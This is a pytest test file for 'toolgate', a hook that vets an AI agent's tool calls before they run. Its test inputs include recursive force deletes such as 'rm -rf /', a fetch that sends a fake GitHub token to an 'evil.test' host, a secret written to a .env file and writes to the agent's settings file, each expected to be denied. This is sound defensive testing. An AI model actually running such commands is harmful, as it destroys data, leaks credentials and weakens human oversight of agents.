"""``ToolgateHook``: construction, policies, the SDK callback and every fail-closed path."""

from __future__ import annotations

import dataclasses
import json
import math
import os
import subprocess
import sys
import textwrap
from collections import OrderedDict, defaultdict
from collections.abc import Iterator, Mapping
from pathlib import Path
from types import MappingProxyType
from typing import Any

import pytest
from conftest import call, decision_of, event, reason_of

from toolgate import Decision, PolicyError, ToolgateHook, ToolgatePolicyWarning

# Built at run time, so that the source holds no token-shaped literal.
GITHUB_TOKEN = "ghp" + "_" + "aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789"


# -- importing ---------------------------------------------------------------------------------


def test_import_does_not_import_the_sdk() -> None:
    code = "import sys, toolgate; toolgate.ToolgateHook(); print('claude_agent_sdk' in sys.modules)"
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "False", out.stderr


@pytest.mark.parametrize("method", ["apply", "matcher"])
def test_apply_and_matcher_say_clearly_when_the_sdk_is_missing(method: str) -> None:
    # `sys.modules[name] = None` makes `import name` fail as if it were not installed.
    code = textwrap.dedent(
        f"""
        import sys
        sys.modules['claude_agent_sdk'] = None
        sys.modules['claude_agent_sdk.types'] = None
        import toolgate
        hook = toolgate.ToolgateHook()
        print(hook.evaluate('Bash', {{'command': 'rm -rf /'}}).verdict)
        try:
            hook.{method}(*([object()] if '{method}' == 'apply' else []))
        except ImportError as e:
            print('ImportError:', e)
        """
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    lines = out.stdout.splitlines()
    assert lines[0] == "deny", out.stderr
    assert lines[1].startswith(f"ImportError: ToolgateHook.{method}() needs the Claude Agent SDK"), out.stdout
    assert "pip install" in lines[1]


# -- apply() and matcher() -----------------------------------------------------------------------


def test_matcher_is_a_hook_matcher_for_every_tool_that_blocks_on_failure() -> None:
    from claude_agent_sdk.types import HookMatcher

    hook = ToolgateHook(timeout=7.5)
    m = hook.matcher()
    assert isinstance(m, HookMatcher)
    assert m.matcher is None
    assert m.hooks == [hook]
    assert m.timeout == 7.5
    assert m.on_failure == "block"
    assert ToolgateHook(matcher="Bash|Write").matcher().matcher == "Bash|Write"


def test_apply_puts_the_hook_first_and_keeps_everything_else() -> None:
    from claude_agent_sdk import ClaudeAgentOptions
    from claude_agent_sdk.types import HookMatcher

    async def other(input_data: Any, tool_use_id: Any, context: Any) -> dict[str, Any]:
        return {}

    mine = HookMatcher(matcher="Bash", hooks=[other])
    post = HookMatcher(hooks=[other])
    options = ClaudeAgentOptions(
        permission_mode="bypassPermissions",
        hooks={"PreToolUse": [mine], "PostToolUse": [post]},
        max_turns=3,
    )
    hook = ToolgateHook()
    applied = hook.apply(options)
    assert applied is not options
    assert applied.hooks["PreToolUse"][0].hooks == [hook]
    assert applied.hooks["PreToolUse"][1:] == [mine]
    assert applied.hooks["PostToolUse"] == [post]
    assert applied.permission_mode == "bypassPermissions"
    assert applied.max_turns == 3
    # The original is untouched.
    assert options.hooks == {"PreToolUse": [mine], "PostToolUse": [post]}
    # No hooks at all.
    bare = hook.apply(ClaudeAgentOptions())
    assert [m.hooks for m in bare.hooks["PreToolUse"]] == [[hook]]
    assert list(bare.hooks) == ["PreToolUse"]


# -- arguments -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("kwargs", "error"),
    [
        ({"on_review": "maybe"}, ValueError),
        ({"grant_allowed": "yes"}, TypeError),
        ({"grant_allowed": 1}, TypeError),
        ({"timeout": 0}, ValueError),
        ({"timeout": -1}, ValueError),
        ({"timeout": math.inf}, ValueError),
        ({"timeout": True}, ValueError),
        ({"matcher": 3}, TypeError),
        ({"policy": 42}, TypeError),
        ({"policy": ["constitution: none"]}, TypeError),
    ],
)
def test_invalid_arguments_raise(kwargs: dict[str, Any], error: type[Exception]) -> None:
    with pytest.raises(error):
        ToolgateHook(**kwargs)


def test_settings_come_from_the_policy_unless_given() -> None:
    policy = {"hook": {"on_review": "ask", "grant_allowed": True}}
    assert (ToolgateHook(policy).on_review, ToolgateHook(policy).grant_allowed) == ("ask", True)
    hook = ToolgateHook(policy, on_review="deny", grant_allowed=False)
    assert (hook.on_review, hook.grant_allowed) == ("deny", False)
    assert (ToolgateHook().on_review, ToolgateHook().grant_allowed) == ("deny", False)
    assert "on_review='deny'" in repr(ToolgateHook())


# -- policies ------------------------------------------------------------------------------------

REVIEW_RULE_YAML = """\
rules:
  - id: DEPLOY-REVIEW
    text: Deploys need a person
    keywords: ["deploy-now"]
    workflow_action: require_human_review
"""


def _review_verdict(hook: ToolgateHook) -> tuple[str, list[str]]:
    d = hook.evaluate("Bash", {"command": "echo deploy-now"})
    return d.verdict, d.rule_ids


def test_policy_forms_all_load_the_same_rules(tmp_path: Path) -> None:
    yaml_file = tmp_path / "p.yaml"
    yaml_file.write_text(REVIEW_RULE_YAML)
    toml_file = tmp_path / "p.toml"
    toml_file.write_text(
        '[[rules]]\nid = "DEPLOY-REVIEW"\ntext = "Deploys need a person"\nkeywords = ["deploy-now"]\n'
        'workflow_action = "require_human_review"\n'
    )
    as_dict = {
        "rules": [
            {
                "id": "DEPLOY-REVIEW",
                "text": "Deploys need a person",
                "keywords": ["deploy-now"],
                "workflow_action": "require_human_review",
            }
        ]
    }
    forms: list[Any] = [
        yaml_file,
        str(yaml_file),
        toml_file,
        REVIEW_RULE_YAML,
        json.dumps(as_dict),
        toml_file.read_text(),
        as_dict,
    ]
    for form in forms:
        assert _review_verdict(ToolgateHook(form)) == ("review", ["DEPLOY-REVIEW"]), form
    # Without the policy nothing objects.
    assert _review_verdict(ToolgateHook()) == ("no_decision", [])


def test_none_discovers_the_policy_as_the_cli_does(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    assert ToolgateHook().policy_source == "built-in default"
    home_policy = Path.home() / ".config/toolgate/policy.yaml"
    home_policy.parent.mkdir(parents=True)
    home_policy.write_text(REVIEW_RULE_YAML)
    assert ToolgateHook().policy_source == str(home_policy)
    assert _review_verdict(ToolgateHook())[0] == "review"
    project = Path.cwd() / ".toolgate.yaml"
    project.write_text("hook:\n  on_review: ask\n")
    assert ToolgateHook().policy_source == str(project)
    assert ToolgateHook().on_review == "ask"
    elsewhere = tmp_path / "env.yaml"
    elsewhere.write_text("hook:\n  grant_allowed: true\n")
    monkeypatch.setenv("TOOLGATE_POLICY", str(elsewhere))
    assert ToolgateHook().grant_allowed is True


def test_an_acgs_constitution_file_is_the_policys_constitution(tmp_path: Path) -> None:
    constitution = tmp_path / "constitution.yaml"
    constitution.write_text(
        "name: coding\nversion: '1.0.0'\nrules:\n"
        "  - id: NO-RM-RF\n    text: No recursive force deletes\n    severity: critical\n"
        "    keywords: ['rm -rf']\n"
    )
    hook = ToolgateHook(constitution)
    d = hook.evaluate("Write", {"file_path": "notes.txt", "content": "we ran rm -rf on it"})
    assert (d.verdict, d.rule_ids) == ("deny", ["NO-RM-RF"])
    # Only the constitution's rules: the toolgate constitution's secret rules are not in it.
    assert hook.evaluate("Write", {"file_path": "a", "content": "password: hunter2"}).verdict == "no_decision"


def test_policy_errors_raise_with_the_validate_report(tmp_path: Path) -> None:
    bad = tmp_path / "bad.yaml"
    bad.write_text("network:\n  alow: ['*']\nhook:\n  on_review: maybe\n")
    with pytest.raises(PolicyError) as caught:
        ToolgateHook(bad)
    message = str(caught.value)
    assert isinstance(caught.value, ValueError)
    assert f"{bad}:2:3" in message and f"{bad}:4:" in message, message
    assert "did you mean `allow`?" in message
    # The same report as `toolgate validate` (the installed executable).
    validate = subprocess.run(
        [str(Path(sys.executable).parent / "toolgate"), "validate", str(bad)], capture_output=True, text=True
    )
    assert validate.returncode == 2
    for block in validate.stdout.split("\n\n")[:-1]:
        assert block.strip() in message, block
    codes = [d["code"] for d in caught.value.diagnostics]
    assert "unknown-key" in codes and "invalid-value" in codes
    first = caught.value.diagnostics[0]
    assert (first["level"], first["line"], first["column"], first["file"]) == ("error", 2, 3, None)


@pytest.mark.parametrize(
    "policy",
    [
        "hook: [\n",
        "{\"hook\": {\"on_review\": 1}}",
        {"netwrok": {}},
        {"rules": [{"id": "X", "text": "t", "patterns": ["("]}]},
        "/nonexistent/dir/policy.yaml",
    ],
)
def test_every_broken_policy_raises_at_construction(policy: Any) -> None:
    with pytest.raises(PolicyError):
        ToolgateHook(policy)


def test_a_policy_with_warnings_loads_and_warns(tmp_path: Path) -> None:
    empty = tmp_path / "empty.yaml"
    empty.write_text("")
    with pytest.warns(ToolgatePolicyWarning, match="empty-policy"):
        hook = ToolgateHook(empty)
    assert hook.evaluate("Bash", {"command": "rm -rf /"}).verdict == "deny"


# -- the SDK callback ----------------------------------------------------------------------------


def test_deny_review_and_no_decision() -> None:
    hook = ToolgateHook(REVIEW_RULE_YAML)
    answer = call(hook, event("Bash", {"command": "rm -rf /"}))
    assert decision_of(answer) == "deny"
    assert answer["hookSpecificOutput"]["hookEventName"] == "PreToolUse"
    assert reason_of(answer).startswith("toolgate: Tool call 'Bash' was not executed.")
    review = call(hook, event("Bash", {"command": "echo deploy-now"}))
    assert decision_of(review) == "deny"
    assert "No reviewer is configured" in reason_of(review)
    ask = call(ToolgateHook(REVIEW_RULE_YAML, on_review="ask"), event("Bash", {"command": "echo deploy-now"}))
    assert decision_of(ask) == "ask"
    assert "DEPLOY-REVIEW" in reason_of(ask)
    assert call(hook, event("Read", {"file_path": "README.md"})) == {}
    granted = call(ToolgateHook(grant_allowed=True), event("Read", {"file_path": "README.md"}))
    assert decision_of(granted) == "allow"


def test_other_events_get_no_decision() -> None:
    hook = ToolgateHook()
    for name in ["PostToolUse", "pretooluse", "UserPromptSubmit", ""]:
        assert call(hook, {"hook_event_name": name, "tool_name": "Bash", "tool_input": {"command": "rm -rf /"}}) == {}
    # Another event's odd values are no reason to deny.
    assert call(hook, {"hook_event_name": "Stop", "tool_input": {b"bytes": object()}}) == {}


class _Plain(Mapping[str, Any]):
    """A read-only mapping that is not a dict."""

    def __init__(self, items: dict[str, Any]) -> None:
        self._items = items

    def __getitem__(self, key: str) -> Any:
        return self._items[key]

    def __iter__(self) -> Iterator[str]:
        return iter(self._items)

    def __len__(self) -> int:
        return len(self._items)


def test_every_kind_of_mapping_is_read_alike(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    hook = ToolgateHook()
    denied = event("Bash", {"command": "rm -rf ~/x"})
    allowed = event("Bash", {"command": "ls -la"})
    # Without a cwd, this process's is the session's: `build` is inside it.
    monkeypatch.chdir(tmp_path)
    no_cwd = {k: v for k, v in event("Bash", {"command": "rm -rf build"}).items() if k != "cwd"}
    for kind in (dict, MappingProxyType, _Plain, OrderedDict, lambda d: defaultdict(lambda: "/", d)):
        assert decision_of(call(hook, kind(denied))) == "deny", kind
        assert decision_of(call(hook, kind(allowed))) == "no decision", kind
        # A missing member is missing, whatever a defaultdict would make up for it (`/` as
        # the cwd would put `build` in a system directory).
        assert decision_of(call(hook, kind(no_cwd))) == "no decision", kind


class _Odd(Mapping[str, Any]):
    """A mapping whose items cannot be read."""

    def __getitem__(self, key: str) -> Any:
        raise RuntimeError("unreadable")

    def __iter__(self) -> Iterator[str]:
        raise RuntimeError("unreadable")

    def __len__(self) -> int:
        return 1


@pytest.mark.parametrize(
    ("input_data", "says"),
    [
        (None, "not a JSON object"),
        ([1, 2], "not a JSON object"),
        ("PreToolUse", "not a JSON object"),
        (42, "not a JSON object"),
        ({"tool_name": "Bash", "tool_input": {"command": "ls"}}, "hook_event_name"),
        ({"hook_event_name": None, "tool_name": "Bash", "tool_input": {}}, "hook_event_name"),
        ({"hook_event_name": "PreToolUse", "tool_input": {"command": "ls"}}, "no tool name"),
        ({"hook_event_name": "PreToolUse", "tool_name": "", "tool_input": {}}, "no tool name"),
        ({"hook_event_name": "PreToolUse", "tool_name": 7, "tool_input": {}}, "no tool name"),
        ({"hook_event_name": "PreToolUse", "tool_name": "Bash"}, "tool_input"),
        ({"hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_input": None}, "tool_input"),
        (event("Write", {"file_path": "a", "content": b"bytes " + GITHUB_TOKEN.encode()}), "not JSON data"),
        (event("Write", {"file_path": "a", "content": {1, 2}}), "not JSON data"),
        (event("Write", {"file_path": "a", "content": object()}), "not JSON data"),
        (event("Write", {"file_path": "a", "content": "\ud800"}), "not JSON data"),
        (event("Write", {(1, 2): "tuple key"}), "not JSON data"),
        (_Odd(), "hook_event_name"),
    ],
)
def test_malformed_input_is_denied_never_raised(input_data: Any, says: str) -> None:
    answer = call(ToolgateHook(), input_data)
    assert decision_of(answer) == "deny", answer
    assert says in reason_of(answer), reason_of(answer)
    assert GITHUB_TOKEN not in json.dumps(answer)


def test_nesting_too_deep_or_cyclic_is_denied() -> None:
    deep: Any = "x"
    for _ in range(200):
        deep = [deep]
    cyclic: dict[str, Any] = {}
    cyclic["self"] = cyclic
    hook = ToolgateHook()
    for tool_input in [deep, cyclic, {"a": deep}]:
        answer = call(hook, event("mcp__srv__tool", tool_input))
        assert decision_of(answer) == "deny"
        assert "nested too deeply" in reason_of(answer)
    # 33 levels render no more (acgs's depth limit): denied by the rules check, not the reader.
    nested: Any = "x"
    for _ in range(40):
        nested = {"k": nested}
    assert decision_of(call(hook, event("mcp__srv__tool", nested))) == "deny"


def test_a_secret_is_denied_and_never_echoed() -> None:
    hook = ToolgateHook()
    answer = call(hook, event("Write", {"file_path": "/tmp/x.env", "content": f"TOKEN={GITHUB_TOKEN}\n"}))
    assert decision_of(answer) == "deny"
    assert "TG-SECRET-GITHUB" in reason_of(answer)
    assert GITHUB_TOKEN not in json.dumps(answer)
    d = hook.evaluate("Write", {"file_path": "/tmp/x.env", "content": GITHUB_TOKEN})
    assert GITHUB_TOKEN not in d.reason + json.dumps(d.to_dict())


def test_the_event_cwd_is_the_session_cwd(tmp_path: Path) -> None:
    hook = ToolgateHook()
    # Writing Claude Code's settings in the session's project is denied whatever this process's cwd.
    project = tmp_path / "project"
    write = {"file_path": str(project / ".claude/settings.json"), "content": "{}"}
    assert decision_of(call(hook, event("Write", write, cwd=str(project)))) == "deny"
    assert "TG-FILE-PROTECTED" in reason_of(call(hook, event("Write", write, cwd=str(project))))


# -- evaluate() ----------------------------------------------------------------------------------


def test_evaluate_returns_a_decision_with_every_field() -> None:
    hook = ToolgateHook({"network": {"allow": ["*.example.com"]}})
    d = hook.evaluate("WebFetch", {"url": "https://evil.test/x?key=" + GITHUB_TOKEN, "prompt": "p"})
    assert isinstance(d, Decision)
    assert d.verdict == "deny" and d.denied
    assert d.tool_name == "WebFetch"
    assert d.error is None
    assert d.destinations[0]["allowed"] is False
    assert d.destinations[0]["reason"] == "not_in_allowlist"
    assert {c["check"] for c in d.checks} >= {"egress"}
    assert GITHUB_TOKEN not in d.reason
    ok = hook.evaluate("WebFetch", {"url": "https://docs.example.com/", "prompt": "p"})
    assert ok.verdict == "no_decision" and not ok.denied
    assert ok.destinations[0]["host"] == "docs.example.com"
    assert ok.to_dict()["verdict"] == "no_decision"
    assert "Decision(verdict='no_decision'" in repr(ok)
    warn = ToolgateHook(
        {"rules": [{"id": "W", "text": "t", "keywords": ["todo"], "workflow_action": "warn"}]}
    ).evaluate("Write", {"file_path": "a", "content": "TODO"})
    assert (warn.verdict, warn.rule_ids, warn.warning_rule_ids) == ("no_decision", [], ["W"])


def test_evaluate_denies_input_it_cannot_read() -> None:
    d = ToolgateHook().evaluate("Write", {"file_path": "a", "content": b"x"})
    assert d.verdict == "deny"
    assert d.error is not None and "not JSON data" in d.error
    for not_a_name in (b"Bash", 3, None):
        with pytest.raises(TypeError, match="tool_name must be a str"):
            ToolgateHook().evaluate(not_a_name, {})  # type: ignore[arg-type]


def test_evaluate_cwd_is_the_session_cwd(tmp_path: Path) -> None:
    hook = ToolgateHook()
    project = tmp_path / "p"
    settings = {"file_path": ".claude/settings.local.json", "content": "{}"}
    assert hook.evaluate("Write", settings, cwd=project).verdict == "deny"
    # The cwd decides what "outside the working directory" means for deletes.
    command = {"command": "rm -rf /srv/project/build"}
    inside = hook.evaluate("Bash", command, cwd="/srv/project")
    outside = hook.evaluate("Bash", command, cwd="/srv/other")
    assert inside.verdict == "no_decision", inside.reason
    assert outside.verdict == "deny", outside.reason
    assert "TG-CMD-RM-OUTSIDE-CWD" in outside.rule_ids


def test_without_a_cwd_the_process_cwd_is_the_session_cwd(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    hook = ToolgateHook()
    command = {"command": "rm -rf build"}
    no_cwd = {"hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_input": command}
    # Read when the call is checked, not when the hook was made: a chdir in between counts.
    # In a project, `build` is inside the working directory.
    monkeypatch.chdir(tmp_path)
    assert hook.evaluate("Bash", command).verdict == "no_decision"
    assert decision_of(call(hook, no_cwd)) == "no decision"
    # In `/`, the same words delete a directory outside any project.
    monkeypatch.chdir("/")
    assert hook.evaluate("Bash", command).verdict == "deny"
    assert decision_of(call(hook, no_cwd)) == "deny"
    # Back in the project, read again (not the first answer remembered).
    monkeypatch.chdir(tmp_path)
    assert hook.evaluate("Bash", command).verdict == "no_decision"
    # An event's own cwd is the session's, whatever this process's is.
    monkeypatch.chdir("/")
    assert decision_of(call(hook, event("Bash", command, cwd=str(tmp_path)))) == "no decision"


def test_evaluate_reads_the_cwd_in_every_path_form() -> None:
    hook = ToolgateHook()
    command = {"command": "rm -rf /srv/project/build"}
    # str and PathLike name the same directory.
    for cwd in ("/srv/project", Path("/srv/project")):
        assert hook.evaluate("Bash", command, cwd=cwd).verdict == "no_decision", cwd
    for cwd in ("/srv/other", Path("/srv/other")):
        assert hook.evaluate("Bash", command, cwd=cwd).verdict == "deny", cwd
    # A directory whose name is not UTF-8 (os.fsdecode's surrogates) is accepted, and since
    # the checks cannot place paths under it, a delete there is denied (fail closed).
    odd = hook.evaluate("Bash", {"command": "rm -rf build"}, cwd=os.fsdecode(b"/srv/\xffproject"))
    assert odd.error is None
    assert odd.verdict == "deny", odd.reason
    assert hook.evaluate("Bash", {"command": "ls"}, cwd=os.fsdecode(b"/srv/\xffp")).verdict == "no_decision"
    for not_a_path in (42, b"/srv/project"):
        with pytest.raises(TypeError):
            hook.evaluate("Bash", command, cwd=not_a_path)  # type: ignore[arg-type]


def test_numbers_render_as_python_prints_them() -> None:
    rule = {"rules": [{"id": "BIG", "text": "t", "keywords": ["123456789012345678901234567890"]},
                      {"id": "NAN", "text": "t", "keywords": ["n: nan"]},
                      {"id": "FLOAT", "text": "t", "keywords": ["f: 1e+100"]}]}
    hook = ToolgateHook(rule)
    assert hook.evaluate("mcp__s__t", {"n": 123456789012345678901234567890}).rule_ids == ["BIG"]
    assert hook.evaluate("mcp__s__t", {"n": float("nan")}).rule_ids == ["NAN"]
    assert hook.evaluate("mcp__s__t", {"f": 1e100}).rule_ids == ["FLOAT"]
    assert hook.evaluate("mcp__s__t", {"n": 1}).rule_ids == []
    # Tuples are lists; keys are converted as json.dumps converts them.
    assert hook.evaluate("mcp__s__t", {"n": (1, 123456789012345678901234567890)}).rule_ids == ["BIG"]
    assert hook.evaluate("mcp__s__t", {1: {True: None}}).verdict == "no_decision"


def test_dataclass_replace_keeps_the_hook_usable() -> None:
    # apply() copies options with dataclasses.replace; the hook object itself is shared.
    from claude_agent_sdk import ClaudeAgentOptions

    hook = ToolgateHook()
    options = dataclasses.replace(hook.apply(ClaudeAgentOptions()), max_turns=1)
    (matcher,) = options.hooks["PreToolUse"]
    assert decision_of(call(matcher.hooks[0], event("Bash", {"command": "rm -rf /"}))) == "deny"


def test_a_relative_home_is_refused_at_construction(monkeypatch: pytest.MonkeyPatch) -> None:
    # As `toolgate hook` reads it: a relative $HOME names no home, so the protected files and
    # the user's policy could not be found.
    monkeypatch.setenv("HOME", "relative/home")
    with pytest.raises(ValueError, match="HOME"):
        ToolgateHook()


def test_the_wheel_serves_the_mcp_tools(tmp_path: Path) -> None:
    # `toolgate mcp` runs the `toolgate-server` installed beside `toolgate`: a real MCP
    # initialize and tools/list over stdio.
    toolgate = Path(sys.executable).parent / "toolgate"
    requests = [
        {"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {
            "protocolVersion": "2025-06-18", "capabilities": {},
            "clientInfo": {"name": "pytest", "version": "1"}}},
        {"jsonrpc": "2.0", "method": "notifications/initialized"},
        {"jsonrpc": "2.0", "id": 2, "method": "tools/list"},
    ]
    out = subprocess.run(
        [str(toolgate), "mcp"],
        input="".join(json.dumps(r) + "\n" for r in requests),
        capture_output=True, text=True, timeout=60, cwd=tmp_path,
    )
    replies = [json.loads(line) for line in out.stdout.splitlines() if line.strip()]
    tools = next(r for r in replies if r.get("id") == 2)["result"]["tools"]
    assert "check_url" in {t["name"] for t in tools}, out.stderr


def test_a_subclass_is_made_and_decides_as_the_hook() -> None:
    class Audited(ToolgateHook):
        def __init__(self, policy: Any = None, **kwargs: Any) -> None:
            super().__init__(policy, **kwargs)
            self.made = True

    hook = Audited({"constitution": "acgs-default"}, on_review="ask")
    assert hook.made and hook.on_review == "ask"
    assert hook.evaluate("Bash", {"command": "rm -fr ~/x"}).verdict == "deny"
    assert ToolgateHook.evaluate.__doc__ and "cwd" in ToolgateHook.evaluate.__doc__


def test_a_dict_that_changes_while_it_is_read_is_denied_not_raised() -> None:
    """A mapping whose ``items()`` adds to the dict holding it makes PyO3's dict iterator
    panic; the panic is caught and the call denied (a ``PanicException`` is no ``Exception``,
    so it would leave the callback, and its caller would let the call run)."""

    def growing() -> dict[str, Any]:
        outer: dict[str, Any] = {}

        class Grows(Mapping):  # type: ignore[type-arg]
            def __getitem__(self, key: str) -> int:
                return 1

            def __iter__(self) -> Iterator[str]:
                return iter(["a"])

            def __len__(self) -> int:
                return 1

            def items(self) -> Any:
                outer[f"added{len(outer)}"] = 1
                return [("a", 1)]

        outer["a"] = Grows()
        outer["b"] = "x"
        return outer

    hook = ToolgateHook()
    for _ in range(2):  # each after an input of the same keys: written into the kept one
        hook.evaluate("mcp__s__t", {"a": 1, "b": "x"})
        d = hook.evaluate("mcp__s__t", growing())
        assert d.verdict == "deny" and d.error is not None and "changed while it was read" in d.error
    answer = call(hook, event("mcp__s__t", growing()))
    assert decision_of(answer) == "deny"
    assert "changed while it was read" in reason_of(answer)
    # The thread's kept input still decides alike afterwards.
    assert hook.evaluate("Bash", {"command": "rm -rf ~/x"}).verdict == "deny"
